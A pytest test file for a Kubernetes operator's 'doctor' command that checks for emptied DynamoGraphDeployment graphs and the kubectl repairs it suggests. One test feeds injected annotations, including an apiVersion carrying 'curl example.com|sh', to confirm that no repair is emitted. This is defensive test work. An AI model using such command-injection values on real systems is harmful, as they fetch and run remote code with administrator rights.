"""`doctor` on graphs that lost their components, and on the policy that keeps that from happening. The accident itself: tests/cluster."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from dynamo_webhooks.api.crd_manifest import ALLOW_DATA_LOSS
from dynamo_webhooks.api.definition_guard import NAME
from dynamo_webhooks.api.kinds import KINDS
from dynamo_webhooks.certs.state import TargetKind
from dynamo_webhooks.cli.doctor.emptied import emptied
from dynamo_webhooks.cli.doctor.finding import Finding, Level
from dynamo_webhooks.cli.doctor.objects import guard
from dynamo_webhooks.cli.doctor.sight import Sight, guard_name
from dynamo_webhooks.kube.resources import DEPLOYMENTS, of_kind
from tests.cli.test_doctor import sight
from tests.kube.memory import MemoryCluster

Node = dict[str, Any]
GRAPHS = of_kind("DynamoGraphDeployment", "v1alpha1")
APPLIED = "kubectl.kubernetes.io/last-applied-configuration"
WHOLE: Node = {"apiVersion": "nvidia.com/v1beta1", "kind": "DynamoGraphDeployment", "spec": {"components": [{"name": "w"}]}}


async def _found(spec: Node | None, annotations: Node | None = None, *, children: tuple[str, ...] = ()) -> list[Finding]:
    cluster = MemoryCluster()
    graph: Node = {"apiVersion": "nvidia.com/v1alpha1", "kind": "DynamoGraphDeployment", "metadata": {"name": "g", "namespace": "n"}}
    graph["metadata"]["annotations"] = annotations or {}
    await cluster.create(GRAPHS, graph if spec is None else {**graph, "spec": spec})
    for name in children:
        labels = {"nvidia.com/dynamo-graph-deployment-name": "g", "nvidia.com/dynamo-component": name}
        metadata = {"name": f"g-{name}", "namespace": "n", "labels": labels}
        await cluster.create(DEPLOYMENTS, {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata})
    return await emptied(cluster, sight())


@pytest.mark.parametrize("spec", [None, {}, {"services": {}}, {"components": []}, {"envs": [{"name": "a"}]}])
async def test_a_graph_without_components_is_an_error(spec: Node | None) -> None:
    [found] = await _found(spec)
    assert (found.level, found.check, found.object) == (Level.ERROR, "emptied", "DynamoGraphDeployment n/g")
    assert "has no component" in found.text
    assert "backup of etcd" in found.text
    assert found.repair == ""


@pytest.mark.parametrize("spec", [{"services": {"w": {}}}, {"components": [{"name": "w"}]}])
async def test_a_whole_graph_with_its_children_is_none(spec: Node) -> None:
    assert await _found(spec, children=("w",)) == []


async def test_what_kubectl_applied_last_is_applied_again_in_its_own_version() -> None:
    [found] = await _found({}, {APPLIED: json.dumps(WHOLE)})
    words = "kubectl apply view-last-applied -n n dynamographdeployments.v1beta1.nvidia.com/g | kubectl apply -f -"
    assert found.repair == words


SPECS: tuple[Any, ...] = ({}, [], {"components": 5}, {"services": 5}, {"components": [{"name": [1]}]})


@pytest.mark.parametrize("text", ["{", "[]", "[" * 100_000, *(json.dumps({**WHOLE, "spec": spec}) for spec in SPECS)])
async def test_an_annotation_that_holds_no_graph_is_no_repair(text: str) -> None:
    [found] = await _found({}, {APPLIED: text})
    assert found.repair == ""


@pytest.mark.parametrize(
    "change",
    [
        {"apiVersion": "nvidia.com/v1;curl example.com|sh;"},
        {"apiVersion": "rbac.authorization.k8s.io/v1beta1"},
        {"apiVersion": ["v1beta1"]},
        {"kind": "ClusterRoleBinding"},
        {"items": [{"apiVersion": "v1", "kind": "Secret"}]},
        {"metadata": {"name": "other", "namespace": "n"}},
        {"metadata": {"name": "g", "namespace": "kube-system"}},
        {"metadata": "g"},
    ],
)
async def test_what_its_author_wrote_into_the_annotation_is_no_command_and_no_other_object(change: Node) -> None:
    """An administrator runs the repair with all permissions: kubectl would apply whatever the annotation holds."""
    [found] = await _found({}, {APPLIED: json.dumps({**WHOLE, **change})})
    assert found.repair == ""
    [ours] = await _found({}, {APPLIED: json.dumps({**WHOLE, "metadata": {"name": "g", "namespace": "n"}})})
    assert "view-last-applied" in ours.repair


async def test_children_say_what_an_empty_graph_was() -> None:
    [found] = await _found({}, children=("a", "b"))
    assert "Deployment g-a, Deployment g-b still say what it was" in found.text


async def test_children_of_a_component_that_the_graph_does_not_name_are_a_warning() -> None:
    [found] = await _found({"services": {"other": {}}}, {APPLIED: json.dumps(WHOLE)}, children=("w", "other"))
    assert (found.level, found.check) == (Level.WARNING, "emptied")
    assert "doesn't name component w, which is still there; Deployment g-w" in found.text
    assert "view-last-applied" in found.repair


async def test_who_wrote_it_is_named() -> None:
    cluster = MemoryCluster("pipeline")
    await cluster.create(GRAPHS, {**WHOLE, "apiVersion": "nvidia.com/v1alpha1", "metadata": {"name": "g", "namespace": "n"}, "spec": {}})
    [found] = await emptied(cluster, sight())
    assert "apply it again from where it came (written by pipeline)" in found.text


async def test_a_writer_without_a_name_is_not_named() -> None:
    """As one that sends no User-Agent."""
    cluster = MemoryCluster("")
    await cluster.create(GRAPHS, {**WHOLE, "apiVersion": "nvidia.com/v1alpha1", "metadata": {"name": "g", "namespace": "n"}, "spec": {}})
    for record in cluster.storage.records.values():
        record.obj["metadata"]["managedFields"] = [{"operation": "Update", "apiVersion": "nvidia.com/v1alpha1"}]
    [found] = await emptied(cluster, sight())
    assert "apply it again from where it came, or restore it" in found.text


async def test_what_may_not_be_listed_is_a_warning() -> None:
    cluster = MemoryCluster()
    cluster.denied.add(("list", "dynamographdeployments"))
    [found] = await emptied(cluster, sight())
    assert (found.level, found.check) == (Level.WARNING, "permission")


def _guarded(**changes: Any) -> Sight:
    binding: Node = {"spec": {"policyName": NAME, "validationActions": ["Deny"]}}
    return sight()._replace(**{"policy": {}, "binding": binding, **changes})


def test_a_policy_in_force_is_as_it_should_be() -> None:
    assert guard_name(sight().about) == NAME
    assert [*guard(_guarded())] == []


@pytest.mark.parametrize("lost", ["policy", "binding"])
def test_a_policy_that_is_gone_is_a_warning(lost: str) -> None:
    [found] = [*guard(_guarded(**{lost: None}))]
    assert (found.level, found.check) == (Level.WARNING, "guard")
    assert found.object.endswith(NAME)
    assert "self-signed" in found.repair


def test_a_binding_that_only_warns_refuses_nothing() -> None:
    [found] = [*guard(_guarded(binding={"spec": {"validationActions": ["Warn", "Audit"]}}))]
    assert "must hold Deny, got Warn, Audit" in found.text


def test_an_annotation_that_was_left_is_told() -> None:
    crds: dict[str, Node | None] = {kind.plural: {"metadata": {"annotations": {ALLOW_DATA_LOSS: "false"}}} for kind in KINDS}
    crds[KINDS[0].plural] = {"metadata": {"annotations": {ALLOW_DATA_LOSS: "true"}}}
    [found] = [*guard(_guarded(crds=crds))]
    assert found.repair == f"kubectl annotate crd {KINDS[0].crd_name} --overwrite {ALLOW_DATA_LOSS}=false"


def test_an_installation_for_one_namespace_has_no_policy() -> None:
    found = _guarded(policy=None, binding=None)
    about = found.about
    alone = tuple(target for target in about.targets if target[0] is not TargetKind.CRD)
    assert [*guard(found._replace(about=replace(about, targets=alone)))] == []
